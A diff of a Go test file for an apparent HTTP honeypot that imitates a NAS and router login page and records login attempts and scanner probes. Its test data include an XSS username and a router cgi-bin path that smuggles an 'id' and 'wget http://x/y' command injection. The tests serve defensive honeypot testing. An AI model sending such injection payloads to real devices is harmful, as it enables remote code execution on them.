@@ -96,17 +96,16 @@ func TestLoginForm(t *testing.T) {
 	base := "http://" + svc.Addr().String()
 	c, tr := oneConn()
 	resp, body := get(t, c, req(t, "GET", base+"/", ""))
-	if resp.StatusCode != 200 || resp.Header.Get("Server") != "lighttpd/1.4.69" || !strings.Contains(body, `<form method="post" action="/login"`) ||
+	if resp.StatusCode != 200 || resp.Header.Get("Server") != "lighttpd/1.4.69" || !strings.Contains(body, `<form method="post" action="/"`) ||
 		!strings.Contains(body, "NAS Manager") {
 		t.Fatalf("GET /: %d %v\n%s", resp.StatusCode, resp.Header, body)
 	}
 	form := url.Values{"username": {`admin"><script>alert(1)</script>`}, "password": {"s3cret pw"}}.Encode()
-	resp, body = get(t, c, req(t, "POST", base+"/login", form))
-	if resp.StatusCode != 200 || !strings.Contains(body, "Invalid user name or password.") {
-		t.Fatalf("POST /login: %d\n%s", resp.StatusCode, body)
-	}
-	if strings.Contains(body, "<script>alert") || !strings.Contains(body, `value="admin&#34;&gt;&lt;script&gt;`) {
-		t.Errorf("user name not escaped:\n%s", body)
+	// The form posts back to the page, which answers as a static page does: the same page.
+	page := body
+	resp, body = get(t, c, req(t, "POST", base+"/", form))
+	if resp.StatusCode != 200 || body != page {
+		t.Fatalf("POST /: %d\n%s", resp.StatusCode, body)
 	}
 	tr.CloseIdleConnections()
 	e := rec.Wait(t, 1, eventWait)
@@ -115,7 +114,7 @@ func TestLoginForm(t *testing.T) {
 	}
 	d := hptest.TypedDetails(e)
 	for _, want := range []string{"1 GET / HTTP/1.1 → 200 | Host: 127.0.0.1:", "User-Agent: Mozilla/5.0 (test)",
-		`1 POST /login HTTP/1.1 → 200 | login admin"><script>alert(1)</script> / s3cret pw (form): rejected | `, "| body (",
+		`1 POST / HTTP/1.1 → 200 | login admin"><script>alert(1)</script> / s3cret pw (form): rejected | `, "| body (",
 		"0 requests: 2, login attempts: 1, malformed: 0, connections: 1 (0 without a request)", "0 The session ended: no request for 300ms."} {
 		if !strings.Contains(d, want) {
 			t.Errorf("details lack %q:\n%s", want, d)
@@ -125,7 +124,7 @@ func TestLoginForm(t *testing.T) {
 		t.Errorf("event %+v", e)
 	}
 	if want := []model.Login{{User: `admin"><script>alert(1)</script>`, Password: "s3cret pw"}}; !slices.Equal(e.Logins, want) ||
-		!slices.Equal(e.Paths, []string{"/", "/login"}) {
+		!slices.Equal(e.Paths, []string{"/", "/"}) {
 		t.Errorf("logins %+v, paths %q", e.Logins, e.Paths)
 	}
 }
@@ -137,7 +136,7 @@ func TestBasicAuth(t *testing.T) {
 	r := req(t, "GET", base+"/admin/config.php", "")
 	r.SetBasicAuth("root", "hunter2:x")
 	resp, body := get(t, c, r)
-	if resp.StatusCode != 401 || resp.Header.Get("WWW-Authenticate") != `Basic realm="Router"` || !strings.Contains(body, "<title>401 Unauthorized</title>") {
+	if resp.StatusCode != 401 || resp.Header.Get("WWW-Authenticate") != `Basic realm="Router", charset="UTF-8"` || !strings.Contains(body, "<title>401 Unauthorized</title>") {
 		t.Fatalf("%d %v\n%s", resp.StatusCode, resp.Header, body)
 	}
 	tr.CloseIdleConnections()
@@ -168,7 +167,7 @@ func TestScannerPaths(t *testing.T) {
 	}{
 		{"GET", "/.env", 404}, {"GET", "/wp-login.php", 404}, {"GET", "/phpmyadmin/", 404},
 		{"GET", "/cgi-bin/", 403}, {"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget%20http://x/y`)", 404},
-		{"GET", "/robots.txt", 200}, {"PUT", "/x", 501}, {"OPTIONS", "/", 200}, {"HEAD", "/", 200},
+		{"GET", "/robots.txt", 200}, {"PUT", "/x", 404}, {"DELETE", "/", 501}, {"OPTIONS", "/", 200}, {"HEAD", "/", 200},
 		{"GET", "/admin", 401}, {"GET", "/index.html?user=a&pass=b", 200},
 	} {
 		resp, body := get(t, c, req(t, tc.method, base+tc.path, ""))
@@ -181,11 +180,11 @@ func TestScannerPaths(t *testing.T) {
 	}
 	tr.CloseIdleConnections()
 	e := rec.Wait(t, 1, eventWait)
-	if e.Summary != "HTTP: 11 requests, first GET /.env" {
+	if e.Summary != "HTTP: 12 requests, first GET /.env" {
 		t.Errorf("summary %q", e.Summary)
 	}
 	d := hptest.Details(e)
-	for _, want := range []string{"GET /.env HTTP/1.1 → 404", "PUT /x HTTP/1.1 → 501", "wget%20http://x/y`) HTTP/1.1 → 404", "GET /index.html?user=a&pass=b HTTP/1.1 → 200"} {
+	for _, want := range []string{"GET /.env HTTP/1.1 → 404", "PUT /x HTTP/1.1 → 404", "DELETE / HTTP/1.1 → 501", "wget%20http://x/y`) HTTP/1.1 → 404", "GET /index.html?user=a&pass=b HTTP/1.1 → 200"} {
 		if !strings.Contains(d, want) {
 			t.Errorf("details lack %q:\n%s", want, d)
 		}
@@ -210,10 +209,10 @@ func raw(t *testing.T, svc *Service, in string) string {
 func TestMalformed(t *testing.T) {
 	svc, rec := start(t, DefaultConfig())
 	for i, tc := range []struct{ in, want string }{
-		// A TLS ClientHello has no line end: net/http waits for one until the header timeout.
+		// A TLS ClientHello has no line end: the server waits for one until the header timeout.
 		{"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + strings.Repeat("\x00", 40), ""},
-		{"GARBAGE\r\n\r\n", "HTTP/1.1 400 Bad Request"},
-		{"GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("a", 20000) + "\r\n\r\n", "HTTP/1.1 431 Request Header Fields Too Large"},
+		{"GARBAGE\r\n\r\n", "HTTP/1.0 400 Bad Request"},
+		{"GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("a", 20000) + "\r\n\r\n", "HTTP/1.0 431 Request Header Fields Too Large"},
 		{"GET / HTTP/1.1\r\n\r\n", "HTTP/1.1 400 Bad Request"}, // no Host
 		{"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n", "HTTP/1.1 400 Bad Request"},
 		{"GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n", "HTTP/1.1 400 Bad Request"},
@@ -260,8 +259,8 @@ func TestRequestLimitAndBody(t *testing.T) {
 		t.Errorf("summary %q\n%s", e.Summary, hptest.Details(e))
 	}
 
-	out = raw(t, svc, "POST /login HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n"+strings.Repeat("u", 1000))
-	if !strings.HasPrefix(out, "HTTP/1.1 413") {
+	out = raw(t, svc, "POST / HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n"+strings.Repeat("u", 1000))
+	if !strings.HasPrefix(out, "HTTP/1.1 200") || !strings.Contains(out, "Connection: close") {
 		t.Errorf("big body: %.80q", out)
 	}
 	if d := hptest.Details(rec.Wait(t, 2, eventWait)); !strings.Contains(d, "body (100 bytes, cut): uuu") {
